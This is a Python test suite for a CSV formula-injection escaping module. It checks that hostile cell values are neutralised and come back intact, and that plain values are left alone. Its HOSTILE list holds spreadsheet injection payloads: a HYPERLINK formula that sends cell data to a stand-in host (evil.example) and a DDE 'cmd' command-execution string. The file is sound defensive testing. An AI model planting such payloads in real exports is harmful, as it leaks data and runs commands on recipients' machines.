"""kb.files.csv_safety: no cell a spreadsheet can cut out of an escaped value runs a formula."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.files.csv_safety import FORMULA_STARTS, escape_formulas, safe_cell, unescape_formulas

#: Values a member or a staff member could type, meant to run in a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'ACME;=HYPERLINK("http://evil.example")',
    "a,+1",
    "Atlas Export; -1",
    "ligne 1\n=1+1",
    "ligne 1\r\n@x",
    "a\t-1",
    "  =1+1",
    "شركة الأطلس؛ =1+1;=2",
    "=",
    ",@",
    'a;"=1+1',
    'x, " =1',
]
#: Values with quotes where a cell may start: escaped too, so that the change is reversible.
QUOTED = ["'=1+1", "''", "'", "a;'b", "l'export"]
#: Ordinary values: left exactly as they are.
PLAIN = [
    "Atlas Export SARL",
    "شركة سوس للتصدير",
    "samira@atlas-export.ma",
    "001525822000088",
    "2026-01-15T10:00:00+00:00",
    "agrifood;ict",
    "Dakar, Sénégal",
    "l'export",
    "",
]


def spreadsheet_cells(text: str) -> list[str]:
    """Every piece a spreadsheet may read as a cell of ``text``: the whole, and what splitting
    on any separator or line break gives (spaces and an opening double quote skipped)."""
    pieces = [text]
    for separator in (",", ";", "\t", "\r", "\n"):
        pieces += [p for piece in list(pieces) for p in piece.split(separator)]
    return [piece.lstrip(' "') for piece in pieces]


def runs_a_formula(text: str) -> bool:
    return any(cell[:1] in FORMULA_STARTS for cell in spreadsheet_cells(text) if cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_escaped_and_come_back(value: str) -> None:
    assert runs_a_formula(value)  # the example is really hostile
    escaped = escape_formulas(value)
    assert not runs_a_formula(escaped), escaped
    assert unescape_formulas(escaped) == value


@pytest.mark.parametrize("value", QUOTED)
def test_quotes_come_back(value: str) -> None:
    assert unescape_formulas(escape_formulas(value)) == value


def test_examples_of_the_escaping() -> None:
    assert escape_formulas("=1+1") == "'=1+1"
    assert escape_formulas("ACME;=HYPERLINK(x)") == "ACME;'=HYPERLINK(x)"
    assert escape_formulas("a, +1") == "a, '+1"
    assert escape_formulas("'=1") == "''=1"
    assert escape_formulas("ligne\n- point") == "ligne\n'- point"


@pytest.mark.parametrize("value", PLAIN)
def test_plain_values_are_unchanged(value: str) -> None:
    assert escape_formulas(value) == value
    assert unescape_formulas(value) == value


def test_safe_cell() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(-5) == "'-5"
    assert safe_cell("+212612345678") == "'+212612345678"


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n,; aب1\""))))
def test_any_text_is_made_safe_and_comes_back(value: str) -> None:
    escaped = escape_formulas(value)
    assert not runs_a_formula(escaped)
    assert unescape_formulas(escaped) == value
